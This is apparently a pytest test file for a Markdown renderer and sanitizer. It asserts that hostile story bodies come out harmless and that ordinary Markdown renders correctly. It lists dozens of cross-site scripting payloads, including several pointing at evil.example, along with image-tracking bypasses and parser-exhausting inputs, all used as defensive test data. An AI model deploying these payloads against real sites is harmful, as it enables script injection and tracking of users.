"""The Markdown renderer and its sanitizer: hostile input comes out harmless, ordinary
Markdown comes out right, and no body can keep the renderer busy for long.

Assertions look at the parsed HTML (stdlib ``html.parser``), not at substrings, so a
payload cannot pass by being spelled differently from what the test expects."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

from storyboard import rendering
from storyboard.rendering import (
    MAX_MARKDOWN_CHARS,
    MarkdownTooComplex,
    MarkdownTooLong,
    html_to_text,
    render_markdown,
    sanitize_html,
)

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "base",
    "link",
    "svg",
    "math",
    "noscript",
    "template",
    "details",
    "video",
    "audio",
    "source",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "xlink:href",
    "background",
    "poster",
    "data",
    "code",
    "codebase",
    "cite",
    "longdesc",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
# What a browser ignores in a URL before it looks for the scheme.
_URL_NOISE = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


@dataclass
class ParsedHtml:
    """Every element and attribute of a fragment, as a browser's tokenizer sees them."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]

    @property
    def tag_names(self) -> set[str]:
        return {name for name, _ in self.tags}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = ParsedHtml()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parsed.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.parsed.text.append(data)


def parse(html: str) -> ParsedHtml:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.parsed


def url_scheme(value: str) -> str | None:
    """The scheme a browser would use for this attribute value, or None if relative."""
    cleaned = _URL_NOISE.sub("", value).strip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"
        "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18"
        "\x19\x1a\x1b\x1c\x1d\x1e\x1f "
    )
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def assert_harmless(html: str) -> ParsedHtml:
    """No executable element, no event handler, no dangerous URL; every link is rel-safe."""
    parsed = parse(html)
    assert not parsed.tag_names & FORBIDDEN_TAGS, html
    assert parsed.tag_names <= rendering.ALLOWED_TAGS, html
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event attribute {name} on <{tag}>: {html}"
            assert name not in {"style", "srcdoc", "formaction", "srcset"}, html
            assert name in rendering.ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r}: {html}"
    for attrs in parsed.named("a"):
        rel = set((attrs.get("rel") or "").split())
        assert {"noopener", "nofollow"} <= rel, html
    return parsed


# Each payload is a story body an attacker might save. ids name the trick it plays.
XSS_PAYLOADS = [
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", id="script-src-upper"),
    pytest.param("<scr<script>ipt>alert(1)</script>", id="script-split"),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<img src="x" onerror="alert(1)" />', id="img-onerror-quoted"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', id="svg-xlink"
    ),
    pytest.param('<iframe src="https://evil.example"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="https://evil.example/x.swf">', id="embed"),
    pytest.param(
        '<form action="https://evil.example"><input name=q><button>Go</button></form>', id="form"
    ),
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-tag"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attr"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example">', id="meta-refresh"
    ),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link-tag"),
    pytest.param('<details open ontoggle="alert(1)">x</details>', id="details-ontoggle"),
    pytest.param('<a href="https://ok.example" onclick="alert(1)">x</a>', id="a-onclick"),
    pytest.param('<a href="https://ok.example" target="_blank">x</a>', id="a-target-blank"),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="formaction"),
    pytest.param(
        '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">', id="img-srcset"
    ),
    # javascript:, vbscript: and data: in Markdown link and image syntax
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-mixed-case"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-entity-decimal"),
    pytest.param("[x](&#x6A;avascript:alert(1))", id="md-link-entity-hex"),
    pytest.param("[x](java&#x09;script:alert(1))", id="md-link-entity-tab"),
    pytest.param("[x](javascript&#58;alert(1))", id="md-link-entity-colon"),
    pytest.param("[x](  javascript:alert(1))", id="md-link-leading-space"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-angle"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="md-link-data"
    ),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param(
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="md-image-data-svg"
    ),
    pytest.param('[x](javascript:alert(1) "title")', id="md-link-with-title"),
    pytest.param("<javascript:alert(1)>", id="md-autolink-javascript"),
    # reference-style links with the same targets
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", id="ref-javascript"),
    pytest.param("[x][r]\n\n[r]: JaVaScRiPt:alert(1)", id="ref-mixed-case"),
    pytest.param("[x][r]\n\n[r]: &#106;avascript:alert(1)", id="ref-entity"),
    pytest.param("[x][r]\n\n[r]: vbscript:msgbox(1)", id="ref-vbscript"),
    pytest.param("[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD4=", id="ref-data"),
    pytest.param("![x][r]\n\n[r]: javascript:alert(1)", id="ref-image-javascript"),
    # the same targets in raw HTML
    pytest.param('<a href="javascript:alert(1)">x</a>', id="html-a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="html-a-mixed-case"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="html-a-entity"),
    pytest.param('<a href="java&#x09;script:alert(1)">x</a>', id="html-a-entity-tab"),
    pytest.param(
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
        id="html-a-padded-entities",
    ),
    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="html-a-control-prefix"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="html-a-vbscript"),
    pytest.param('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', id="html-a-data"),
    pytest.param('<img src="javascript:alert(1)">', id="html-img-javascript"),
    pytest.param('<img src="data:text/html,<script>alert(1)</script>">', id="html-img-data"),
    # attribute breaking
    pytest.param('[x]("><script>alert(1)</script>)', id="md-link-quote-break"),
    pytest.param('"><script>alert(1)</script>', id="text-quote-break"),
    pytest.param("[x](https://ok.example/' onmouseover='alert(1))", id="md-link-single-quote"),
    pytest.param(
        "<a href='https://ok.example/' onmouseover='alert(1)'>x</a>", id="html-a-onmouseover"
    ),
    pytest.param('![a" onerror="alert(1)](https://ok.example/a.png)', id="md-image-alt-break"),
    pytest.param(
        '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")', id="md-link-title-break"
    ),
    pytest.param("<img src=`x` onerror=`alert(1)`>", id="backtick-attributes"),
    pytest.param("<a href=`javascript:alert(1)`>x</a>", id="backtick-href"),
    pytest.param('<http://ok.example/"onmouseover="alert(1)>', id="autolink-quote-break"),
    # parser-confusion (mutation XSS) classics
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-confusion"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"
    ),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mxss"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea"),
    pytest.param("```\n</code></pre><script>alert(1)</script>\n```", id="code-fence-escape"),
    pytest.param("`<img src=x onerror=alert(1)>`", id="inline-code"),
]


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_without_executable_content(payload: str) -> None:
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_inside_a_story_is_harmless_too(payload: str) -> None:
    body = f"# Een verhaal\n\nDe klant belde.\n\n{payload}\n\n- punt een\n- punt twee\n"
    parsed = assert_harmless(render_markdown(body))
    # An unclosed raw HTML block may swallow the Markdown after it; what comes before stays.
    assert parsed.tags[0] == ("h1", {})


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizer_alone_cleans_raw_html(payload: str) -> None:
    """The allowlist is the last line of defence; it must hold even without Markdown."""
    assert_harmless(sanitize_html(payload))


def test_javascript_link_keeps_its_text_but_loses_its_target() -> None:
    parsed = parse(render_markdown("[klik hier](javascript:alert(1))"))
    (link,) = parsed.named("a")
    assert "href" not in link
    assert "klik hier" in "".join(parsed.text)


def test_script_text_in_code_is_shown_not_run() -> None:
    html = render_markdown("`<script>alert(1)</script>`")
    parsed = parse(html)
    assert "script" not in parsed.tag_names
    assert "<script>alert(1)</script>" in "".join(parsed.text)


def test_html_to_text_has_no_markup() -> None:
    html = render_markdown("**Vet** en <script>alert(1)</script> [link](https://a.nl)")
    text = html_to_text(html)
    assert "<" not in text and "Vet" in text and "link" in text


# --- ordinary Markdown --------------------------------------------------------------------


def test_headings() -> None:
    parsed = parse(render_markdown("# Titel\n\n## Wat de klant nodig had\n\n### Details"))
    assert [name for name, _ in parsed.tags] == ["h1", "h2", "h3"]
    assert "Wat de klant nodig had" in parsed.text


def test_lists() -> None:
    parsed = parse(render_markdown("- een\n- twee\n\n1. eerst\n2. dan\n"))
    assert [name for name, _ in parsed.tags] == ["ul", "li", "li", "ol", "li", "li"]
    assert {"een", "twee", "eerst", "dan"} <= set(parsed.text)


def test_ordered_list_keeps_its_start_number() -> None:
    parsed = parse(render_markdown("3. derde\n4. vierde\n"))
    assert parsed.named("ol") == [{"start": "3"}]


def test_emphasis() -> None:
    html = render_markdown("Dit is *belangrijk* en **heel belangrijk**.")
    assert html == "<p>Dit is <em>belangrijk</em> en <strong>heel belangrijk</strong>.</p>"


def test_links_keep_safe_targets_and_get_rel() -> None:
    html = render_markdown(
        '[site](https://example.nl/pad?a=1&b=2 "Titel"), [mail](mailto:jan@example.nl), '
        "[intern](/stories/3) en <https://example.com>"
    )
    links = assert_harmless(html).named("a")
    assert [link["href"] for link in links] == [
        "https://example.nl/pad?a=1&b=2",
        "mailto:jan@example.nl",
        "/stories/3",
        "https://example.com",
    ]
    assert links[0]["title"] == "Titel"
    assert all(link["rel"] == "noopener nofollow" for link in links)


def test_reference_links() -> None:
    links = parse(render_markdown("Zie [de site][1].\n\n[1]: https://example.nl")).named("a")
    assert links[0]["href"] == "https://example.nl"


def test_images_from_an_allowed_host_stay_images() -> None:
    html = render_markdown("![Taart](https://example.nl/taart.png)", image_hosts={"example.nl"})
    (image,) = parse(html).named("img")
    assert image == {"alt": "Taart", "src": "https://example.nl/taart.png"}


def test_images_from_the_portal_itself_stay_images() -> None:
    (image,) = parse(render_markdown("![Logo](/static/img/logo.png)")).named("img")
    assert image["src"] == "/static/img/logo.png"


# --- images that would call a third party ------------------------------------------------


def loaded_image_sources(html: str) -> list[str]:
    """What a browser would fetch for the images of ``html``."""
    return [attrs.get("src") or "" for attrs in parse(html).named("img")]


def test_a_tracking_pixel_becomes_a_link_with_its_alt_text_and_host() -> None:
    html = render_markdown("Kijk: ![x](https://tracker.example/p.png?who=moderator)")
    assert loaded_image_sources(html) == []
    parsed = parse(html)
    (link,) = parsed.named("a")
    assert link["href"] == "https://tracker.example/p.png?who=moderator"
    assert set((link["rel"] or "").split()) == {"noopener", "nofollow"}
    assert "x (image: tracker.example)" in "".join(parsed.text)


def test_an_image_without_alt_text_is_named_by_its_host() -> None:
    parsed = parse(render_markdown("![](https://tracker.example/p.png)"))
    assert parsed.named("img") == []
    assert "".join(parsed.text) == "image: tracker.example"


def test_an_image_inside_a_link_leaves_one_link_not_two() -> None:
    parsed = parse(render_markdown("[![x](https://tracker.example/p.png)](https://ok.example)"))
    assert parsed.named("img") == []
    assert [a["href"] for a in parsed.named("a")] == ["https://ok.example"]
    assert "x (image: tracker.example)" in "".join(parsed.text)


# Each source is one a browser would fetch from somewhere other than the portal or the
# allowed host ok.example (over https, on its default port).
THIRD_PARTY_IMAGES = [
    pytest.param("![x](https://tracker.example/p.png)", id="md-https"),
    pytest.param("![x](http://ok.example/p.png)", id="allowed-host-over-http"),
    pytest.param("![x](https://ok.example:8443/p.png)", id="allowed-host-other-port"),
    pytest.param("![x](https://ok.example.tracker.example/p.png)", id="allowed-host-as-prefix"),
    pytest.param("![x](https://tracker.example/ok.example/p.png)", id="allowed-host-in-path"),
    pytest.param("![x](https://ok.example@tracker.example/p.png)", id="allowed-host-as-user"),
    pytest.param("![x][1]\n\n[1]: https://tracker.example/p.png", id="md-reference"),
    pytest.param('<img src="https://tracker.example/p.png">', id="raw-html"),
    pytest.param('<IMG SRC="HTTPS://TRACKER.EXAMPLE/P.PNG">', id="raw-html-upper"),
    pytest.param('<img src="//tracker.example/p.png">', id="protocol-relative"),
    pytest.param('<img src="/\\tracker.example/p.png">', id="slash-backslash"),
    pytest.param('<img src="\\\\tracker.example/p.png">', id="backslashes"),
    pytest.param('<img src="/&#9;/tracker.example/p.png">', id="tab-between-slashes"),
    pytest.param('<img src=" //tracker.example/p.png">', id="leading-space"),
    pytest.param('<img src="https:tracker.example/p.png">', id="scheme-without-slashes"),
    pytest.param('<img alt="a>b" src="https://tracker.example/p.png">', id="gt-in-alt"),
    pytest.param('<img title="x" src="https://tracker.example/p.png" alt="">', id="attr-order"),
    pytest.param("<p>![x](https://tracker.example/p.png)</p>", id="inside-raw-block"),
    pytest.param("| a |\n|---|\n| ![x](https://tracker.example/p.png) |", id="in-table"),
]


@pytest.mark.parametrize("body", THIRD_PARTY_IMAGES)
def test_no_image_loads_from_a_third_party(body: str) -> None:
    html = render_markdown(body, image_hosts={"ok.example"})
    assert_harmless(html)
    for src in loaded_image_sources(html):
        cleaned = _URL_NOISE.sub("", src).strip()
        assert cleaned.startswith("/") and not cleaned.startswith("//"), html
        assert "\\" not in cleaned, html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payloads_stay_harmless_with_image_hosts_allowed(payload: str) -> None:
    assert_harmless(render_markdown(payload, image_hosts={"ok.example"}))


def test_image_hosts_come_from_the_app_and_default_to_none(tmp_path: Path) -> None:
    from tests.conftest import make_app

    body = "![x](https://cdn.example.nl/a.png)"
    assert loaded_image_sources(render_markdown(body)) == []  # outside an app: none
    app = make_app(tmp_path / "i", IMAGE_HOSTS="cdn.example.nl, other.example")
    with app.app_context():
        assert loaded_image_sources(render_markdown(body)) == ["https://cdn.example.nl/a.png"]
    app = make_app(tmp_path / "j")
    with app.app_context():
        assert loaded_image_sources(render_markdown(body)) == []


def test_image_hosts_are_read_from_the_environment(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from storyboard.config import build_config

    monkeypatch.setenv("STORYBOARD_IMAGE_HOSTS", " CDN.example.nl,,photos.example.com ")
    config = build_config(tmp_path, {"SECRET_KEY": "x"})
    assert config["IMAGE_HOSTS"] == ("cdn.example.nl", "photos.example.com")


@pytest.mark.parametrize(
    "value",
    [
        "https://cdn.example",
        "cdn.example/x",
        "*.example",
        "cdn.example:8443",
        "a.example; script-src *",
        "a b",
    ],
)
def test_an_image_host_that_is_not_a_host_name_stops_the_app(value: str) -> None:
    from storyboard.config import image_hosts

    with pytest.raises(ValueError, match="STORYBOARD_IMAGE_HOSTS"):
        image_hosts(value)


def test_quotes() -> None:
    parsed = parse(render_markdown("> Dank je wel!\n> Echt waar.\n\nEinde."))
    assert [name for name, _ in parsed.tags] == ["blockquote", "p", "p"]


def test_tables() -> None:
    html = render_markdown("| Week | NPS |\n|:-----|----:|\n| 46 | 41 |\n| 47 | 44 |\n")
    parsed = parse(html)
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= parsed.tag_names
    assert [attrs.get("align") for attrs in parsed.named("th")] == ["left", "right"]
    assert {"Week", "NPS", "46", "41", "47", "44"} <= set(parsed.text)


def test_fenced_code_is_escaped_and_kept_verbatim() -> None:
    html = render_markdown("```python\nif a < b and c > d:\n    print('<b>')\n```")
    parsed = parse(html)
    assert [name for name, _ in parsed.tags] == ["pre", "code"]
    assert "if a < b and c > d:\n    print('<b>')\n" in "".join(parsed.text)


def test_horizontal_rule_and_line_structure() -> None:
    parsed = parse(render_markdown("Een\n\n---\n\nTwee"))
    assert [name for name, _ in parsed.tags] == ["p", "hr", "p"]


def test_dutch_text_with_accents_and_emoji() -> None:
    text = "Één cadeau voor z'n dochter — ze werd vandaag jarig 🎂🎁. Geëmotioneerd, café, reünie."
    parsed = parse(render_markdown(text))
    assert parsed.tags == [("p", {})]
    assert "".join(parsed.text) == text


def test_right_to_left_and_emoji_sequences_survive() -> None:
    text = "مرحبا 👨\u200d👩\u200d👧 שלום"
    assert html_to_text(render_markdown(text)) == text


def test_lone_surrogate_does_not_crash_the_renderer() -> None:
    """JSON can carry "\\ud800"; it cannot be encoded, so it must not reach nh3 as is."""
    assert html_to_text(render_markdown("taart \ud83c!")) == "taart \ufffd!"


def test_long_ordinary_story_renders_in_the_child_process() -> None:
    paragraph = "De klant belde over zijn bestelling. **Vandaag** jarig! 🎂\n\n"
    body = paragraph * (rendering.IN_PROCESS_LIMIT // len(paragraph) + 10)
    assert len(body) > rendering.IN_PROCESS_LIMIT
    parsed = assert_harmless(render_markdown(body))
    assert len(parsed.named("strong")) == body.count("**Vandaag**")
    assert "🎂" in "".join(parsed.text)


# --- size limit and hostile structure -----------------------------------------------------


def test_body_at_the_limit_renders() -> None:
    assert render_markdown("a" * MAX_MARKDOWN_CHARS).startswith("<p>a")


@pytest.mark.parametrize(
    "length", [MAX_MARKDOWN_CHARS + 1, 100 * MAX_MARKDOWN_CHARS], ids=["one-over", "ten-megabytes"]
)
def test_body_over_the_limit_is_refused_without_rendering(
    length: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_render(text: str) -> str:
        raise AssertionError("an over-long body reached the Markdown parser")

    monkeypatch.setattr(rendering, "_markdown_to_html", must_not_render)
    monkeypatch.setattr(rendering, "_markdown_to_html_in_child", must_not_render)
    with pytest.raises(MarkdownTooLong) as refused:
        render_markdown("x" * length)
    assert refused.value.length == length
    assert f"{MAX_MARKDOWN_CHARS}" in str(refused.value)


def _list_items_capped() -> str:
    return ("- item\n" * 100_000)[:MAX_MARKDOWN_CHARS]


# Bodies that run into the render's time limit whatever the machine (they are refused).
RUNAWAY = pytest.mark.runaway

HOSTILE_BODIES = [
    pytest.param("`" * 2000, id="2000-backticks"),
    pytest.param(">" * 10_000 + " x", id="10000-nested-quotes-one-line"),
    pytest.param(
        "\n".join(">" * depth + " x" for depth in range(1, 400))[:MAX_MARKDOWN_CHARS],
        id="deepening-quotes-many-lines",
    ),
    pytest.param("*" * 10_000, id="10000-stars"),
    pytest.param("*a " * 3000 + "b" + "*" * 3000, id="unclosed-emphasis"),
    pytest.param("_" * 50_000, id="50000-underscores"),
    pytest.param(_list_items_capped(), id="100000-list-items-capped"),
    pytest.param(
        "\n".join("    " * depth + "- x" for depth in range(200))[:MAX_MARKDOWN_CHARS],
        id="deeply-indented-list",
    ),
    pytest.param("- * + " * 400 + "x", id="chained-list-markers"),
    pytest.param("> - " * 2000 + "x", id="quote-list-chain"),
    pytest.param("[" * 30_000, id="30000-open-brackets", marks=RUNAWAY),
    pytest.param("[a](" * 20_000, id="unclosed-links"),
    pytest.param("<a " * 30_000, id="30000-unclosed-a-tags", marks=RUNAWAY),
    pytest.param("<div>" * 20_000, id="20000-div-tags"),
    pytest.param("a\n=\n" * 20_000, id="stacked-setext-headings", marks=RUNAWAY),
    pytest.param("<" * MAX_MARKDOWN_CHARS, id="100k-less-than"),
    pytest.param("&#" * 50_000, id="entity-starts"),
]


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_hostile_body_renders_harmless_html_or_is_refused(
    body: str, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Runaway parsing is stopped by the child render's time limit (injected small in
    ``test_a_runaway_child_render_is_stopped``); how long these take is measured by
    ``bench/hostile_input_bench.py``, not asserted here. The bodies marked ``runaway``
    always run into the limit, so they get a short one instead of waiting 3 s each."""
    if request.node.get_closest_marker("runaway"):
        monkeypatch.setattr(rendering, "RENDER_TIMEOUT_SECONDS", 0.3)
    assert len(body) <= MAX_MARKDOWN_CHARS
    try:
        html = render_markdown(body)
    except MarkdownTooComplex:
        pass
    else:
        assert_harmless(html)


def test_chained_list_markers_are_refused_not_crashing() -> None:
    """Python-Markdown recurses once per marker; it used to escape as RecursionError."""
    with pytest.raises(MarkdownTooComplex):
        render_markdown("- * + " * 400 + "x")


def test_a_runaway_child_render_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "RENDER_TIMEOUT_SECONDS", 0.01)
    with pytest.raises(MarkdownTooComplex):
        render_markdown("<a " * 30_000)


def test_a_runaway_child_render_is_stopped_by_its_cpu_budget(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The child's limit is CPU time, so a busy machine (a child waiting for a core)
    refuses no honest story; the wall-clock limit is only the backstop."""
    monkeypatch.setattr(rendering, "RENDER_CPU_SECONDS", 1)
    monkeypatch.setattr(rendering, "RENDER_TIMEOUT_SECONDS", 120.0)
    with pytest.raises(MarkdownTooComplex, match="took too long"):
        render_markdown("<a " * 30_000)


def test_a_large_honest_body_renders_in_the_child() -> None:
    body = "\n\n".join(
        f"Paragraph {n} with *emphasis* and a [link](https://example.nl)." for n in range(400)
    )
    assert len(body) > rendering.IN_PROCESS_LIMIT
    html = render_markdown(body)
    assert html.count("<p>") == 400 and "<em>emphasis</em>" in html
